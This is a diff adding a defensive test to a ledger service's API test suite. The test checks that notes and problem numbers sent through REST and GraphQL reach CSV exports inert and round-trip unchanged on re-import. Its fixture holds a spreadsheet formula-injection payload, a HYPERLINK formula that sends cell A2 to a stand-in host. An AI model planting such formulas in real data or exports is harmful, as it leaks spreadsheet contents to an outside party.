@@ -7,7 +7,10 @@ or delete the audit trail."""
 from __future__ import annotations
 
 import asyncio
+import csv
 import datetime as dt
+import filecmp
+import io
 import re
 
 import httpx
@@ -21,6 +24,9 @@ from api.graphql.schema import schema
 from graph_schema.access.audit import audit_entries
 from graph_schema.access.service import issue_token, revoke_tokens, set_password, token_hash
 from graph_schema.settings import Settings
+from importers.csv_escape import runs_as_formula
+from importers.engine import run_import
+from importers.export import export
 
 GRAPHQL = {"query": "{ household(householdNo: \"HA1\") { householdNo } }"}
 
@@ -101,6 +107,49 @@ def _address_counted(store, forwarded_allow_ips: str) -> int:
 def test_forwarded_addresses_are_believed_only_from_the_configured_proxies(world):
     assert _address_counted(world.store, "") == 429  # by default the peer is the client
     assert _address_counted(world.store, "127.0.0.1") == 401  # behind a proxy on this machine
+
+
+# --- formula injection through the APIs -----------------------------------------------------------
+
+NOTE = '=HYPERLINK("http://example.invalid/?"&A2,"点此查看")'
+PROBLEM = "=1+1"
+
+
+def csv_cells(text: str) -> list[str]:
+    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
+
+
+def test_text_written_through_the_apis_reaches_csv_files_inert_and_round_trips(client, world, tmp_path):
+    """A ledger note and a problem number written through REST and GraphQL are free text: every
+    CSV file they reach starts them with an apostrophe, and the contract export (the backup's
+    files) imports back to the same text and the same bytes."""
+    day = dt.date.today().isoformat()
+    sent = client.post("/api/v1/ledger", headers=world.auth("cadre-a"), json={
+        "entry_date": day, "household_no": "HA1", "cadre_no": "CA1", "kind": "反映困难", "problem_no": PROBLEM,
+        "note": NOTE})
+    assert sent.status_code == 201, sent.text
+    mutation = ('mutation { recordLedgerEntry(entry: {entryDate: "%s", householdNo: "HA1", cadreNo: "CA1", '
+                'kind: "入户走访", note: "@SUM(A1:A9)"}) { note } }' % day)
+    assert client.post("/graphql", json={"query": mutation}, headers=world.auth("cadre-a")).json()["data"]
+    report = client.get("/api/v1/reports/open-problems", params={"format": "csv", "region": "620822"},
+                        headers=world.auth("organizer-a"))
+    assert report.status_code == 200
+    written = csv_cells(report.content.decode("utf-8-sig"))
+    assert "'" + PROBLEM in written and "'" + NOTE in written
+    assert not [c for c in written if runs_as_formula(c)]
+
+    export(world.store, tmp_path / "first")
+    ledger = (tmp_path / "first" / "帮扶记录.csv").read_text(encoding="utf-8-sig")
+    assert not [c for c in csv_cells(ledger) if runs_as_formula(c)]
+    assert {"'" + NOTE, "'" + PROBLEM, "'@SUM(A1:A9)"} <= set(csv_cells(ledger))
+    world.store.wipe()
+    again = run_import(world.store, [tmp_path / "first"])
+    assert again.exit_code == 0, again.problems[:3]
+    notes = {r["note"] for r in world.store.query("MATCH ()-[e:ASSISTED]->() RETURN e.note AS note")}
+    assert {NOTE, "@SUM(A1:A9)"} <= notes
+    export(world.store, tmp_path / "second")
+    names = sorted(p.name for p in (tmp_path / "first").iterdir())
+    assert filecmp.cmpfiles(tmp_path / "first", tmp_path / "second", names, shallow=False)[0] == names
 
 
 # --- headers -----------------------------------------------------------------------------------
